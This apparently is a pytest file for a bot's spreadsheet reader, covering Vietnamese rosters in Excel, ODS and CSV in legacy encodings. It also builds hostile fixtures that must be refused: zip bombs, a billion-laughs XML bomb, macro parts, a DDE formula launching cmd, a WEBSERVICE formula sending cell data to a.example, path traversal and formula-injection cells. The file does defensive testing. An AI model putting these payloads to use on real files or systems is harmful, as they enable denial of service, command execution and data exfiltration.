"""Files as they come from offices and from strangers: read into plain values, or refused with one word why."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from bot.sheets import Cell, Mark, Sheet, Unreadable, read, write_marked

FILES = Path(__file__).parent / "files"
MB = 1024 * 1024

ROOT = Path(__file__).parent.parent


def excel(fill: Callable[[openpyxl.Workbook], object]) -> bytes:
    book = openpyxl.Workbook()
    fill(book)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def repacked(packed: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    """The same workbook with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def rows(source: bytes | Path) -> list[list[object]]:
    """Of the first sheet, without empty cells at the end of a row."""
    with read(source) as sheets:
        return [_stripped(list(row)) for row in sheets[0].rows]


def _stripped(row: list[object]) -> list[object]:
    while row and row[-1] is None:
        row.pop()
    return row


def refused(source: bytes) -> str:
    try:
        with read(source) as sheets:
            rows = [row for sheet in sheets for row in sheet.rows]
    except Unreadable as error:
        return error.reason
    return f"read {len(rows)} rows"


def simple(book: openpyxl.Workbook) -> None:
    page = book.active
    assert page is not None
    page.title = "Xã Tân Thạch"
    page["B3"] = "Họ và tên"
    page["C3"] = "SĐT"
    page["B4"] = "Nguyễn Văn An"
    page["C4"] = 912345678
    page["D4"] = date(1970, 1, 2)
    page["E4"] = 1.5
    page["F4"] = True
    page["B5"] = "=ROW()-4"
    page.merge_cells("B1:F1")


def test_cells_stand_where_they_stand_in_excel() -> None:
    packed = excel(simple)
    with read(packed) as (sheet,):
        pass
    assert (sheet.name, sheet.is_hidden) == ("Xã Tân Thạch", False)
    assert [(one.top, one.left, one.bottom, one.right) for one in sheet.merged] == [(0, 1, 0, 5)]
    assert rows(packed)[2:4] == [
        [None, "Họ và tên", "SĐT"],
        [None, "Nguyễn Văn An", 912345678, date(1970, 1, 2), 1.5, True],
    ]


def test_sheets_come_in_their_order_and_may_be_passed_over() -> None:
    def fill(book: openpyxl.Workbook) -> None:
        for name in ("một", "hai", "ba"):
            book.create_sheet(name)["A1"] = name
        book["hai"].sheet_state = "hidden"
        del book["Sheet"]

    with read(excel(fill)) as sheets:
        assert [(sheet.name, sheet.is_hidden) for sheet in sheets] == [("một", False), ("hai", True), ("ba", False)]
        assert list(sheets[0].rows) == [["một"]]
        assert list(sheets[2].rows) == [["ba"]]


@pytest.mark.parametrize("name", ["roster.xls", "roster.ods"])
def test_older_and_free_formats(name: str) -> None:
    found = rows(FILES / name)
    assert ["STT", "Họ và tên", "SĐT"] in found
    assert [1, "Nguyễn Văn An", 912345678] in found


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_text_tables(encoding: str, separator: str) -> None:
    lines = [["STT", "Họ và tên", "SĐT"], ["1", "Nguyễn Văn An", "0912345678"], ["2", "Trần Thị Bé", '"09 12"']]
    text = "\r\n".join(separator.join(line) for line in lines)
    assert rows(text.encode(encoding)) == [lines[0], lines[1], ["2", "Trần Thị Bé", "09 12"]]


def test_text_tables_of_old_windows() -> None:
    decomposed = "STT;Họ và tên;Số điện thoại\n1;Nguyễn Văn Thắng;0912345678\n"
    tones = {"ọ": "o\u0323", "ố": "ô\u0301", "ệ": "ê\u0323", "ạ": "a\u0323", "ễ": "ê\u0303", "ắ": "ă\u0301"}
    for letter, parts in tones.items():
        decomposed = decomposed.replace(letter, parts)
    assert rows(decomposed.encode("cp1258"))[1] == ["1", "Nguyễn Văn Thắng", "0912345678"]


@pytest.mark.parametrize(
    "text",
    [
        "STT;Hä vµ tªn;Sè ®iÖn tho¹i\n1;NguyÔn V¨n Th¾ng;0912345678\n2;TrÇn ThÞ H­¬ng;0912345679\n",
        "STT;Hoï vaø teân;Soá ñieän thoaïi\n1;Nguyeãn Vaên Thaéng;0912345678\n2;Traàn Thò Höông;0912345679\n",
    ],
    ids=["TCVN3", "VNI"],
)
def test_text_tables_in_the_fonts_before_unicode(text: str) -> None:
    assert rows(text.encode("latin-1"))[:2] == [
        ["STT", "Họ và tên", "Số điện thoại"],
        ["1", "Nguyễn Văn Thắng", "0912345678"],
    ]


def test_the_line_that_names_the_separator_is_no_row() -> None:
    assert rows("sep=;\nHọ tên;SĐT\nNguyễn Văn An, TT;0912345678\n".encode()) == [
        ["Họ tên", "SĐT"],
        ["Nguyễn Văn An, TT", "0912345678"],
    ]


# Hostile files.


def bomb() -> bytes:
    """A little file that unpacks to 300 MB."""
    return repacked(excel(simple), lambda parts: parts.update({"xl/worksheets/sheet2.xml": b" " * (300 * MB)}))


def lying_bomb() -> bytes:
    """As `bomb`, but the directory says that there are ten bytes."""
    packed = repacked(excel(simple), lambda parts: parts.update({"xl/sharedStrings.xml": b" " * (60 * MB)}))
    real, said = (60 * MB).to_bytes(4, "little"), (10).to_bytes(4, "little")
    assert real in packed
    return packed.replace(real, said)


def many_parts() -> bytes:
    return repacked(excel(simple), lambda parts: parts.update({f"xl/media/{n}.png": b"" for n in range(5000)}))


def sheet_xml(cells: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts["xl/worksheets/sheet1.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            f'2006/main"><sheetData>{cells}</sheetData></worksheet>'
        ).encode()

    return repacked(excel(simple), change)


def far_corner() -> bytes:
    return sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')


def million_columns() -> bytes:
    names = [letters(number) for number in range(1_000_000)]
    return sheet_xml('<row r="1">' + "".join(f'<c r="{name}1"><v>1</v></c>' for name in names) + "</row>")


def letters(number: int) -> str:
    name = ""
    number += 1
    while number:
        number, rest = divmod(number - 1, 26)
        name = chr(65 + rest) + name
    return name


def laughs() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        parts["xl/sharedStrings.xml"] = (
            f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a0 "ha">{entities}]><sst><si><t>&a9;</t></si></sst>'
        ).encode()

    return repacked(excel(simple), change)


def with_part(name: str) -> bytes:
    return repacked(excel(simple), lambda parts: parts.update({name: b"<x/>"}))


def with_formula(formula: str) -> bytes:
    return sheet_xml(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')


def repeated_ods() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        text = parts["content.xml"].decode()
        start = '<table:table-cell office:value-type="string" table:number-columns-repeated="16384">'
        cell = f"{start}<text:p>a</text:p></table:table-cell>"
        row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
        assert "</table:table>" in text
        parts["content.xml"] = text.replace("</table:table>", f"{row}</table:table>", 1).encode()

    return repacked((FILES / "roster.ods").read_bytes(), change)


HOSTILE: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "zip bomb": (bomb, {"zip_bomb"}),
    "zip bomb with a lying directory": (lying_bomb, {"zip_bomb", "broken"}),
    "five thousand parts": (many_parts, {"zip_bomb"}),
    "two cells a world apart": (far_corner, {"too_big_inside"}),
    "a million columns": (million_columns, {"too_many_columns", "broken"}),
    "a billion laughs": (laughs, {"broken"}),
    "an .ods of repeated cells": (repeated_ods, {"broken", "too_big_inside", "too_slow"}),
    "macros": (lambda: with_part("xl/vbaProject.bin"), {"macros"}),
    "a macro sheet": (lambda: with_part("xl/macrosheets/sheet1.xml"), {"macros"}),
    "links to another file": (lambda: with_part("xl/externalLinks/externalLink1.xml"), {"external_links"}),
    "a connection": (lambda: with_part("xl/connections.xml"), {"external_links"}),
    "an embedded file": (lambda: with_part("xl/embeddings/oleObject1.bin"), {"embedded"}),
    "DDE": (lambda: with_formula("cmd|'/C calc'!A0"), {"reaching_formula"}),
    "another workbook": (lambda: with_formula("[1]Sheet1!A1"), {"reaching_formula"}),
    "the network": (lambda: with_formula('WEBSERVICE("http://a.example/"&amp;A1)'), {"reaching_formula"}),
    "a text of a million columns": (lambda: b"a;" * 1_000_000 + b"\n", {"too_many_columns"}),
    "a text of one endless line": (lambda: b"Ho ten;" + b"a" * (20 * MB), {"too_many_columns"}),
    "a text of one endless cell": (lambda: b'Ho ten;SDT\n"' + b"a\n" * (10 * MB), {"broken"}),
    "nothing": (lambda: b"", {"empty"}),
    "half a file": (lambda: excel(simple)[:3000], {"broken"}),
    "noise": (lambda: bytes(range(256)) * 100, {"unknown"}),
    "a .zip of something else": (lambda: repacked(excel(simple), lambda parts: parts.clear()), {"broken"}),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 5000, {"broken"}),
    "a PDF": (lambda: b"%PDF-1.7\n", {"pdf"}),
    "a web page called .xls": (lambda: b"\n<html><body><table>", {"web_page"}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name: str) -> None:
    build, reasons = HOSTILE[name]
    assert refused(build()) in reasons


ALONE = """
import resource, sys
from bot.sheets import Unreadable, read
try:
    with read(sys.stdin.buffer.read()) as sheets:
        [list(sheet.rows) for sheet in sheets]
except Unreadable:
    pass
with open("/proc/self/status") as status:  # what is counted as a process's own outlives `exec`: the test's own size
    own = next(int(line.split()[1]) for line in status if line.startswith("VmHWM"))
print(max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
"""


@pytest.mark.parametrize("name", ["zip bomb", "a million columns", "two cells a world apart", "a billion laughs"])
def test_what_swells_takes_little_memory(name: str) -> None:
    """In a process of its own: what others took before cannot be told apart in this one."""
    ran = subprocess.run([sys.executable, "-c", ALONE], input=HOSTILE[name][0](), capture_output=True, cwd=ROOT)
    assert ran.returncode == 0, ran.stderr.decode()
    assert int(ran.stdout) < 300 * 1024, "kilobytes"


def test_formulas_of_offices_are_read_by_their_value() -> None:
    packed = sheet_xml('<row r="1"><c r="A1"><f>ROW()-4</f><v>7</v></c><c r="B1"><f>SUM(A1:A9)</f><v>9</v></c></row>')
    assert rows(packed) == [[7, 9]]


def test_a_name_of_the_file_is_never_used() -> None:
    with pytest.raises(Unreadable), read(Path("../../etc/nothing.xlsx")):
        pass


# What is written.


def test_marked_cells_stay_text_and_say_why() -> None:
    told: list[list[Cell]] = [["Họ tên", "SĐT"], ["=1+1", "+84912345678"], ["@cmd", "-1"], ["Nguyễn Văn An", None]]
    file = io.BytesIO()
    sheet = Sheet("Xã [Tân] Thạch/1", False, 4, (), [list(row) for row in told])
    write_marked(file, [sheet], {(sheet.name, 2): [Mark(1, "số này sai")], (sheet.name, 4): [Mark(1, "=thiếu")]})
    page = openpyxl.load_workbook(file).active
    assert page is not None
    assert [[page.cell(row, column).value for column in (1, 2)] for row in (1, 2, 3, 4)] == told
    assert {page.cell(row, column).data_type for row in (2, 3) for column in (1, 2)} == {"s"}
    marked = page.cell(2, 2)
    assert marked.fill.fgColor.rgb == "FFFFE699"
    assert marked.comment is not None
    assert "số này sai" in marked.comment.text
    assert page.cell(4, 13).value == "=thiếu"
    assert page.cell(4, 13).data_type == "s"
